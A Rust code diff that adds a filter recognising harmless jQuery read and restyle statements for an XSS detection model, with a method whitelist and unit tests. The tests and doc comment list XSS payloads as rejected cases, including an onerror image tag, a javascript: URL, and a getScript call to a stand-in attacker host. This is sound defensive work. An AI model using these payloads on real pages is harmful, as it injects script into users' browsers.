@@ -949,6 +949,154 @@ const AFTER_ALIAS: [&[u8]; 36] = [
     b"settings",
 ];
 
+/// Whether `value` is one jQuery statement that only reads or restyles the page
+/// (`x = $("#id").val();`, `$('.menu').addClass('open')`, `jQuery(document).height()`):
+/// an optional assignment to a name, `$(…)` or `jQuery(…)` of `document`, `window`, `this`
+/// or a quoted selector with no markup, then calls of [`JQUERY_INERT`] methods whose
+/// arguments are quoted words, numbers or names (`attr`, `prop`, `data` and `css` with one
+/// argument: they read). No markup reaches the page (a `<` would make `$()` build
+/// elements), no URL is followed, and nothing is evaluated, so a second opinion has nothing
+/// to find. For the XSS model, which scores `$(`, quotes and `#` as a script injection.
+///
+/// ```text
+/// "x = $(\"#id\").val();"   -> true     "$(\"#x\").html(location.hash)" -> false
+/// "$('.nav').toggle()"      -> true     "$('<img src=x onerror=alert(1)>')" -> false
+/// ```
+pub(crate) fn jquery_read(value: &str) -> bool {
+    let mut b = value.trim_ascii().as_bytes();
+    if let Some(x) = b.strip_suffix(b";") {
+        b = x.trim_ascii_end();
+    }
+    if b.len() > 256
+        || b.iter()
+            .any(|&c| matches!(c, b';' | b'<' | b'`' | b'\\' | b'\n' | b'\r'))
+    {
+        return false;
+    }
+    // (`x = `, `var x = `: the result is kept, which runs nothing)
+    if let Some(eq) = memchr::memchr(b'=', b) {
+        let target = b[..eq].trim_ascii();
+        let name = ["var ", "let ", "const "]
+            .iter()
+            .find_map(|k| target.strip_prefix(k.as_bytes()))
+            .unwrap_or(target)
+            .trim_ascii();
+        if name.is_empty()
+            || !name
+                .iter()
+                .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'$'))
+        {
+            return false;
+        }
+        b = b[eq + 1..].trim_ascii_start();
+    }
+    let Some(rest) = b.strip_prefix(b"$(").or_else(|| b.strip_prefix(b"jQuery(")) else {
+        return false;
+    };
+    let Some(close) = memchr::memchr(b')', rest) else {
+        return false;
+    };
+    let subject = rest[..close].trim_ascii();
+    let selector = quoted(subject).is_some_and(|s| {
+        s.iter()
+            .all(|&c| c.is_ascii_alphanumeric() || b" #.-_:[]=*>~+,^$|".contains(&c))
+    });
+    if !(selector || matches!(subject, b"document" | b"window" | b"this")) {
+        return false;
+    }
+    let mut b = &rest[close + 1..];
+    let mut calls = 0;
+    while !b.is_empty() {
+        calls += 1;
+        let Some(call) = b.strip_prefix(b".") else {
+            return false;
+        };
+        let name_end = call
+            .iter()
+            .position(|c| !c.is_ascii_alphabetic())
+            .unwrap_or(call.len());
+        let (name, after) = call.split_at(name_end);
+        let Some(args) = after.strip_prefix(b"(") else {
+            return false;
+        };
+        let Some(close) = memchr::memchr(b')', args) else {
+            return false;
+        };
+        let list = args[..close].trim_ascii();
+        let count = if list.is_empty() {
+            0
+        } else {
+            list.split(|&c| c == b',').count()
+        };
+        let reads_only = matches!(name, b"attr" | b"prop" | b"data" | b"css") && count == 1;
+        let plain = list.is_empty()
+            || list.split(|&c| c == b',').all(|a| {
+                let a = a.trim_ascii();
+                quoted(a)
+                    .is_some_and(|s| !s.iter().any(|&c| matches!(c, b'\'' | b'"' | b':' | b'(')))
+                    || (!a.is_empty()
+                        && a.iter()
+                            .all(|&c| c.is_ascii_alphanumeric() || c == b'_' || c == b'.'))
+            });
+        if calls > 8 || !plain || !(reads_only || JQUERY_INERT.contains(&name)) {
+            return false;
+        }
+        b = &args[close + 1..];
+    }
+    true
+}
+
+/// The text of a string literal that is all of `a` (`'x'` or `"x"`), if it is one.
+fn quoted(a: &[u8]) -> Option<&[u8]> {
+    match a {
+        [q @ (b'\'' | b'"'), inner @ .., last] if last == q && !inner.contains(q) => Some(inner),
+        _ => None,
+    }
+}
+
+/// jQuery methods that read, walk or restyle what a selector found and never write markup,
+/// follow a URL or run code, whatever their arguments (see [`jquery_read`]).
+const JQUERY_INERT: [&[u8]; 38] = [
+    b"val",
+    b"text",
+    b"find",
+    b"closest",
+    b"parent",
+    b"parents",
+    b"children",
+    b"siblings",
+    b"next",
+    b"prev",
+    b"first",
+    b"last",
+    b"eq",
+    b"filter",
+    b"is",
+    b"not",
+    b"hasClass",
+    b"addClass",
+    b"removeClass",
+    b"toggleClass",
+    b"show",
+    b"hide",
+    b"toggle",
+    b"fadeIn",
+    b"fadeOut",
+    b"slideUp",
+    b"slideDown",
+    b"focus",
+    b"blur",
+    b"height",
+    b"width",
+    b"offset",
+    b"scrollTop",
+    b"serialize",
+    b"index",
+    b"empty",
+    b"remove",
+    b"removeAttr",
+];
+
 /// Bytes that join SQL values or leave a literal some other way than a quote: operators,
 /// comparisons, parentheses and escapes (see [`quotes_inside_words`]).
 static SQL_JOINS: [bool; 256] = crate::byte_set(b"=<>()|&+*/%^~\\[]{}\n\r");
@@ -1438,6 +1586,33 @@ mod tests {
             "a[b=c]d",
         ] {
             assert!(!attribute_selector(v), "{v}");
+        }
+    }
+
+    #[test]
+    fn jquery_reads_are_settled() {
+        for v in [
+            "x = $(\"#id\").val();",
+            "$('.menu').addClass('open')",
+            "jQuery(document).height()",
+            "$(this).closest('tr').find('td').first().text()",
+            "const v = $('#email').attr('value');",
+        ] {
+            assert!(jquery_read(v), "{v:?}");
+        }
+        for v in [
+            "$(\"#x\").html(location.hash)",
+            "$('<img src=x onerror=alert(1)>')",
+            "$('#x').attr('href', 'javascript:alert(1)')",
+            "$('#x').append(name)",
+            "$.getScript('//evil.example/x.js')",
+            "$(location.hash)",
+            "$('#a').val(); alert(1)",
+            "$('#a').css('background')+alert(1)",
+            "x.y = $('#a').val()",
+            "$(document).ready(function(){ init(); });",
+        ] {
+            assert!(!jquery_read(v), "{v:?}");
         }
     }
 
